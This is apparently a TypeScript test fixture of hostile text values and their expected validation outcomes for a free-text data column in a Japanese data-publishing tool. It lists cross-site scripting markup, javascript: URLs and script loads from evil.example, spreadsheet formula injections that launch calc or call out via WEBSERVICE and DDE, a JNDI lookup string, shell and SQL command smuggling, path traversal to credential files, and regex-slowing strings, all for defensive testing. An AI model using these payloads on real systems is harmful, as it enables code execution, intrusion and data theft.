import type { MessageCode } from '../../src/diagnostics/catalogue/message-catalogue.ts';

/** What must happen to a text: the code of an error or a warning, or `text` if it is published as it is. */
export type Outcome = MessageCode | 'text';

/** A hostile text, its class, and what must happen to it in a column of free text. */
export interface HostileValue {
  readonly kind: string;
  readonly outcome: Outcome;
  readonly value: string;
}

/** Lists texts of one class and outcome. Calls spread rows of texts, because one text in each line is a long list. */
const describeAll = (kind: string, outcome: Outcome, ...values: readonly string[]): HostileValue[] =>
  values.map((value) => ({ kind, outcome, value }));

/** The length of texts that are long, but not too long for a cell. */
const LONG = 10_000;

/** Returns texts of repeated parts with an end that makes a pattern try again. */
const repeatAll = (...parts: readonly string[]): string[] =>
  parts.flatMap((part) => [`${part.repeat(LONG / part.length)}a`, `1${part.repeat(LONG / part.length - 8)}x\n!`]);

const invisible = [
  ...[0x01, 0x02, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f, 0x85],
  ...[0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f],
  ...[0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064],
  ...[0x180b, 0x2065, 0xfff0, 0x1d159, 0xe0000, 0xe0002, 0xe0080, 0xe01f0],
  ...[0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x2800, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffb],
  ...[0x110bd, 0x13430, 0x1bca0, 0x1d173, 0xe0001, 0xe0041, 0xe007f],
].map((code) => `市の${String.fromCodePoint(code)}広場`);

/**
 * Texts that attack readers, spreadsheets, programs or patterns. Everything that only looks dangerous must stay
 * possible: pages escape it.
 */
export const hostileValues: readonly HostileValue[] = [
  ...describeAll(
    'markup',
    'html-in-cell',
    ...['<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>', '<img src=x onerror=alert(1)>'],
    ...['<svg onload=alert(1)>', '<svg/onload=alert(1)//>', '<iframe src="javascript:alert(1)"></iframe>'],
    ...['<a href="javascript:alert(1)">市</a>', '<b>太字</b>', '<br>', '<br/>', '</p>', '</script>'],
    ...['</style><script>', '<math><mtext></mtext></math>', '<style>*{display:none}</style>'],
    ...['<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">'],
    ...['<base href="//evil.example/">', '<form action=x>', '<input autofocus onfocus=alert(1)>'],
    ...['<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<x>'],
    ...['<object data="data:text/html,x"></object>', '<embed src=x>', '<video><source onerror=alert(1)></video>'],
    ...['<template><script>x</script></template>', '<noscript><p title="</noscript><img src=x>">', '<my-element>'],
    ...['市<i\n>広場', '市<i\tclass=x>広場', '<!-- 見えない注 -->', '<!--', '市の<!--', '--><script>alert(1)</script>'],
    ...['&lt;script&gt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '市&nbsp;広場', '&amp;', '&quot;onclick='],
    ...['&apos;', '"><script>alert(1)</script>', "'><img src=x>", '{{<b>}}', '<a\u3000href=x>', '<ｂ><b>'],
    '<p>'.repeat(100),
  ),
  ...describeAll(
    'unfinished markup',
    'text',
    ...['</script x', '</title x', '</style x', '</textarea x', '<svg onload=alert(1) x', '<iframe src=javascript:x'],
    ...['<script', '<img src=x onerror=alert(1)', '<', '>', '<>', '</', '< script>', '10分<20分', 'a < b > c', '<3'],
    ...['<?php', '<?xml version="1.0"?>', '<!DOCTYPE html', '<![CDATA[x]]', ']]>', '&', '&copy', '&unknown;', '&#;'],
    ...['&#x;', '％3Cb', "'", '`', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"; alert(1); "'],
    ...["'; alert(1); '", '\\"', '${alert(1)}', '{alert(1)}', '{{7*7}}', '{{constructor.constructor("alert(1)")()}}'],
    ...['<%= 7*7 %>', '#{7*7}', '//', '/*', '*/', "' OR 1=1 --", '; DROP TABLE plans', '$(reboot)', '`reboot`'],
    ...['|reboot', '&& reboot', '${jndi:ldap://evil.example/a}', '%s%s%s%n', '%00', '%3Cscript%3E'],
    ...['\\u003cscript\\u003e', '\\x3cscript\\x3e', 'import x from "y"', 'export const x = 1'],
    ...['[リンク](javascript:alert(1))', '![絵](https://evil.example/a.png)', '# 見出し', '1. 項目', '| 表 | 表 |'],
    ...['```', '~~~', '***', '___', '<Indicator', '[^1]', '[x]: javascript:x'],
  ),
  ...describeAll('sign for the text above', 'ditto', '"', '〃'),
  ...describeAll(
    'URL',
    'text',
    ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)'],
    ...['vbscript:msgbox(1)', 'data:text/html,x', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,x'],
    ...['//evil.example/', '///evil.example', '\\\\evil.example\\share', '/\\evil.example', 'http:evil.example'],
    ...['https:', 'https://', 'https:// evil.example', 'https://evil.example/"onclick="x', 'https://[::1'],
    ...['https://evil.example:99999/', 'https://%zz/', 'ftp://evil.example/', 'file:///etc/passwd'],
    ...['blob:https://evil.example/1', 'view-source:https://evil.example/', 'mailto:a@b?bcc=c', 'tel:110'],
    ...['ｊavascript:alert(1)', 'javascript：alert(1)', 'about:blank', 'filesystem:https://evil.example/'],
    'ws://evil.example/',
  ),
  ...describeAll(
    'formula',
    'formula-like',
    ...['=1+1', '=cmd|"/c calc"!A0', '=HYPERLINK("https://evil.example","市")'],
    ...['=IMPORTXML("https://evil.example","//a")', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', ' =1+1', '\u3000=1+1'],
    ...['\n=1+1', '\r=1+1', '=DDE("cmd";"/c calc";"x")', '=WEBSERVICE("https://evil.example")', '+cmd|x', '-cmd|x'],
    ...['@cmd|x', '=-1', '==', '++', '--', '@@', '=市', '+α', '-市'],
    ...[
      '＠SUM(1)',
      '＝cmd|x',
      "＝cmd|' /C calc'!A0",
      '＋1+cmd|x',
      '－SUM（1）',
      'ーcmd｜x',
      '　＝HYPERLINK("//a)b","市")',
    ],
    ...[
      "＝'\\\\evil.example\\[a.xlsx]b)c'!A1",
      '＝ＷＥＢＳＥＲＶＩＣＥ（"https://evil.example"）',
      '＝IFERROR(市,cmd|x)',
    ],
  ),
  ...describeAll(
    'sign that is no formula',
    'text',
    ...['＝1+1', '＝１＋１', '＋１＋１', '＝LOVE', '＋α', '＠市', '=', '+', '-', '@', '市=1', '市-1', "'=1+1"],
    ...['"=1+1"', '−1', '▲1', '－1', '＠Home（家）の推進', '－SDGs（目標）－', '＋α！'],
  ),
  ...describeAll('invisible character', 'unseen-character', ...invisible),
  ...describeAll(
    'invisible character',
    'unseen-character',
    ...['\u202egnp.市', '\u200b', '市\u200b\u200b\u200b', 'ad\u200dmin', '\ufeff市', '市\ufeff\u200f'],
    ...['市\u{e0068}\u{e0069}', '👍\u200b', '\ufe0f市', 'a\ufe0f', '1\ufe0f', 'の\u{e0100}', '市\ufe00\ufe0f'],
  ),
  ...describeAll(
    'emoji',
    'text',
    ...[
      '👩‍🌾',
      '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
      '👍🏽',
      '🇯🇵',
      '葛\u{e0100}城市',
      '❤️',
      '1️⃣',
      'ℹ️',
      '‼️',
      '㊗️',
    ],
  ),
  ...describeAll(
    'damaged character',
    'damaged-character',
    ...['市\ud800広場', '\udc00', '\udc00\ud800', '市\ufffd', '\uffff', '\ufdd0', '市\u{1fffe}', '\ufffe市'],
    ...['市の\x80広場', '市の\x90広場', '市の\x9b広場', '市の\x9f広場'],
  ),
  ...describeAll(
    'platform character',
    'platform-character',
    ...['①', 'Ⅳ', '㈱市', '㎡', '㍻', 'ｶﾞﾝ', '\ue000', '№', '〝市〟', '⽂', 'ﬁ', '\u{f0000}'],
  ),
  ...describeAll(
    'prototype name',
    'text',
    ...['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__'],
    ...['prototype', 'propertyIsEnumerable', 'toLocaleString', '__lookupSetter__', 'constructor.prototype'],
    ...['__proto__[x]', 'then', 'toJSON', 'null', 'undefined', 'NaN', 'Infinity', 'true', 'false', '[object Object]'],
    ...['length', 'name', 'default', 'arguments'],
  ),
  ...describeAll(
    'path',
    'text',
    ...['../', '../../etc/passwd', '..\\..\\windows', '%2e%2e%2f', '..%2f..%2f', '..;/', '/etc/passwd', 'C:\\'],
    ...['~/.ssh/id_rsa', 'CON', 'NUL', 'AUX', 'COM1', 'LPT1', 'con.csv', 'NUL.txt', 'a.', 'a ', '.', '..'],
    ...['.git/config', '.env', 'index.html', 'a/b', 'a\\b', 'a:b', 'a*b', 'a?b', 'a|b', '%00.csv', 'ａ／ｂ', '．．／'],
    ...['file://x', '%252e%252e/', 'aux', 'desktop.ini'],
  ),
  ...describeAll(
    'look-alike',
    'text',
    ...['ｓｃｒｉｐｔ', '＜script＞', '〈script〉', '‹script›', 'аdmin', 'раypal', 'ΑΒΓ', 'ー', '一', '二', 'ロ', '口'],
    ...['へ', 'ヘ', 'ｍihon', 'か\u3099', 'は\u309a', 'é', 'e\u0301', '０', 'О', '十', '卜', '夕'],
    'Z\u0351\u036b\u0343\u036a',
  ),
  ...describeAll(
    'quoting of CSV',
    'text',
    ...['"市"', '""', '"""', 'a,b', ',', ',,,', 'a;b', 'a\tb', 'a\nb', 'a\r\nb', 'a\rb', '"a,b"', 'a"b', 'a""b', '"a'],
    ...['a"', 'コード,名称', '"a\nb"', "'a,b'", 'a，b', 'sep=;', '#注', '\ta', 'a\t', '\u00a0a', '\u3000a', 'a\u3000b'],
    'a  b',
  ),
  ...describeAll(
    'long text',
    'text',
    ...['あ'.repeat(LONG), '𠮷'.repeat(LONG / 2), 'a'.repeat(LONG), '市 '.repeat(LONG / 2), '"'.repeat(LONG / 4)],
    '👍'.repeat(LONG / 2),
  ),
  ...describeAll(
    'long text',
    'over-limit',
    ...['あ'.repeat(32_768), '𠮷'.repeat(20_000), 'a\n'.repeat(20_000), '"'.repeat(33_000)],
  ),
  ...describeAll(
    'slow pattern',
    'text',
    ...repeatAll('1,', '1', ' ', '\n', '(', '（', '([', '1年', '令和', '人口', 'から', '~', '<', '<a', '"', 'a-', '一'),
    ...repeatAll('第', '・', '1.', '%', 'é'),
    ...repeatAll('か\u3099', '{', '[$', 'http://', 'e\u0301', 'ア', 'ー', '1 ', 'a1', ';', '/', '.', '、', '。'),
  ),
];
